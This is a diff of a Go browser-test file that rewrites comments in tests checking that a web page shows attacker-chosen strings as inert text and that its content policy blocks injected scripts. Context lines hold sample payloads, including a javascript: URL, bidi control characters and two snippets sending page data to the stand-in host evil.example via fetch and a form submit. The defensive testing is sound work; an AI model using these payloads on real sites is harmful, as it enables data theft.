@@ -56,7 +56,7 @@ func testSearch(t *testing.T, b *chromium) {
 	p.quiet()
 }
 
-// testHostile searches for what an attacker chose: all of it is text, and none of it acts.
+// testHostile searches for strings of an attacker. All of them are shown as text and do nothing.
 func testHostile(t *testing.T, b *chromium) {
 	now := time.Now()
 	a := busy(now)
@@ -73,7 +73,7 @@ func testHostile(t *testing.T, b *chromium) {
 	p.search(hostileCallID)
 	p.await("the call", "document.querySelector('#call article')")
 
-	// Every string is there, letter by letter, with escapes for what wouldn't show.
+	// Every string is shown completely, with escapes for invisible characters.
 	shown := strings.NewReplacer("\u202e", `\u{202e}`, "\u202c", `\u{202c}`).Replace(hostileURI)
 	if n := evaluate[int](p, fmt.Sprintf("document.getElementById('call').textContent.split(%q).length - 1", shown)); n < 14 {
 		t.Errorf("the URI is shown %d times in the call, want 14 or more", n)
@@ -89,7 +89,7 @@ func testHostile(t *testing.T, b *chromium) {
 	}
 	p.has("#call", "__proto__", "<b>name</b>", "javascript:alert(1)")
 
-	// None of it became anything.
+	// None of them became an element or a script.
 	if got := evaluate[string](p, "document.title"); strings.Contains(got, "owned") {
 		t.Error("a script of the attacker ran")
 	}
@@ -128,7 +128,7 @@ func testAddress(t *testing.T, b *chromium) {
 	p.quiet()
 }
 
-// testPolicy puts markup and scripts into the page as a flaw in it would let an attacker do: the policy stops them.
+// testPolicy puts markup and scripts into the page, as a flaw in it might allow. The policy blocks them.
 func testPolicy(t *testing.T, b *chromium) {
 	p := b.open(t, serve(t, busy(time.Now())).URL+"/", desktop)
 	p.await("the numbers", "!document.getElementById('numbers').hidden")
@@ -145,7 +145,7 @@ func testPolicy(t *testing.T, b *chromium) {
 		`fetch('http://evil.example/?' + document.title).catch(() => 0)`,
 		`{ const f = document.createElement('form'); f.action = 'http://evil.example/'; document.body.append(f); f.submit(); }`,
 	} {
-		// An attack may throw; that is as good as any other end of it.
+		// The attack may also throw an exception.
 		evaluate[int](p, "(() => { try { "+attack+" } catch (err) {} })(), 0")
 	}
 	p.await("the next answer", "performance.getEntriesByType('resource').filter((e) => e.name.endsWith('/api/status')).length > 3")
